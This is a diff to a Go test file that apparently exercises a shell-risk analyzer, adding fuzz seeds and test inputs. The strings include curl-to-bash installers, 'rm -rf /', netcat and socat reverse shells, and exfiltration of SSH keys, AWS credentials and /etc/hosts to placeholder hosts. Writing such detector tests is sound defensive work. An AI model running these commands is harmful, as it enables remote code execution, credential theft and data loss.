@@ -473,6 +473,7 @@ func FuzzAnalyze(f *testing.F) {
 	f.Add("``` import os, socket\nos.system('rm -rf /'); exec(open('/etc/passwd').read()) ```")
 	f.Add("curl -fsSL https://x.example/i.sh | sudo -E bash -\nbash <(wget -qO- x) && eval \"$(curl x)\"; curl -F f=@/etc/hosts -d@x --data-binary=@y u; nc -e /bin/sh h 1 | perl -ne x")
 	f.Add("curl -F")
+	f.Add("curl -o ~/.x/i.sh https://x/i.sh && chmod +x ~/.x/i.sh; sh i.sh\necho x | base64 -d | xxd -r | sh | nc h 1; scp ~/.ssh/id_rsa h:; socat exec:sh tcp:h:1; nc -nve sh h")
 	f.Fuzz(func(t *testing.T, s string) {
 		a := analyze(s)
 		for c := Cue(0); c < NumCues; c++ {
@@ -864,6 +865,7 @@ func TestAnalyzeAllocatesNothingWarm(t *testing.T) {
 		"import " + strings.Repeat("v", 40) + ", socket\nfrom " + strings.Repeat("v", 40) + " import system\nfrom os." + strings.Repeat("v", 40) + " import popen",
 		"curl -fsSL https://" + strings.Repeat("u", 40) + ".example/i.sh | sudo -E -u root /usr/bin/env bash -\nbash <(wget -qO- x) && eval \"$(curl x)\"", // the shell
 		"curl -F f=@/etc/hosts -d@x --data-binary=@y u; nc -e /bin/sh h 1; iwr x | Invoke-Expression; curl x | perl -ne p | python3 " + strings.Repeat("p", 40) + ".py",
+		"curl -o ~/.x/i.sh https://x/i.sh && chmod +x ~/.x/i.sh; sh i.sh\necho x | base64 -d | xxd -r | sh | nc h 1; scp ~/.ssh/id_rsa h:; socat exec:sh tcp:h:1; tar c ~/.aws | nc h 1",
 	}
 	var z Analyzer
 	var a Analysis
